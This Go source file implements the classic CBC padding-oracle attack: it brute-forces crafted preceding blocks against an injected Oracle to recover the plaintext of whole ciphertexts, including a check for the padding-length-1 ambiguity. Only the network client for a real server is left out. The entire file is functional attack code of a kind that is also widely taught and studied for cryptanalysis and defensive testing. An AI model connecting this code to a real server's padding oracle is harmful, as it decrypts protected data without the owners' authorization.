// Package paddingoracle implements the classic byte-at-a-time CBC
// padding-oracle attack against an injected Oracle, leaving the actual
// network client that would talk to a real server unimplemented.
package paddingoracle

import (
	"fmt"
)

// Oracle is the minimal surface the attack needs: given the ciphertext
// block to decrypt and a candidate preceding block, report whether the
// server-side CBC decryption of guess‖block ends in valid PKCS#7
// padding.
type Oracle interface {
	Query(block, guess [16]byte) bool
}

func xor16(a, b [16]byte) [16]byte {
	var out [16]byte
	for i := range out {
		out[i] = a[i] ^ b[i]
	}
	return out
}

// DecryptBlock recovers the plaintext of one ciphertext block given the
// block preceding it (the IV, for the first ciphertext block). It walks
// the padding length from 1 to 16, and at each position brute-forces
// the byte of the crafted preceding block that makes the padding valid,
// working back to the intermediate (pre-XOR) state.
//
// Padding length 1 is ambiguous: a guess can also pass because the
// crafted block happens to make the decrypted tail a longer valid
// padding such as 0x02 0x02; a second query with the second-to-last byte
// flipped disambiguates, exactly as the reference attack verifies its
// first candidate.
func DecryptBlock(oracle Oracle, prev, block [16]byte) ([16]byte, error) {
	var intermediate [16]byte

	for padVal := 1; padVal <= 16; padVal++ {
		i := 16 - padVal

		var guess [16]byte
		for j := i + 1; j < 16; j++ {
			guess[j] = intermediate[j] ^ byte(padVal)
		}

		found := false
		for g := 0; g < 256; g++ {
			guess[i] = byte(g)
			if !oracle.Query(block, guess) {
				continue
			}
			if padVal == 1 && i > 0 {
				probe := guess
				probe[i-1] ^= 0xFF
				if !oracle.Query(block, probe) {
					continue
				}
			}
			intermediate[i] = byte(g) ^ byte(padVal)
			found = true
			break
		}
		if !found {
			return [16]byte{}, fmt.Errorf("paddingoracle: no valid padding byte found at position %d", i)
		}
	}

	return xor16(intermediate, prev), nil
}

// Decrypt recovers the plaintext of an entire ciphertext (a multiple of
// 16 bytes) given the IV, one block at a time.
func Decrypt(oracle Oracle, iv [16]byte, ciphertext []byte) ([]byte, error) {
	if len(ciphertext)%16 != 0 {
		return nil, fmt.Errorf("paddingoracle: ciphertext length %d is not a multiple of 16", len(ciphertext))
	}

	n := len(ciphertext) / 16
	blocks := make([][16]byte, n)
	for i := range blocks {
		copy(blocks[i][:], ciphertext[i*16:(i+1)*16])
	}

	plaintext := make([]byte, 0, len(ciphertext))
	prev := iv
	for _, block := range blocks {
		pt, err := DecryptBlock(oracle, prev, block)
		if err != nil {
			return nil, err
		}
		plaintext = append(plaintext, pt[:]...)
		prev = block
	}
	return plaintext, nil
}
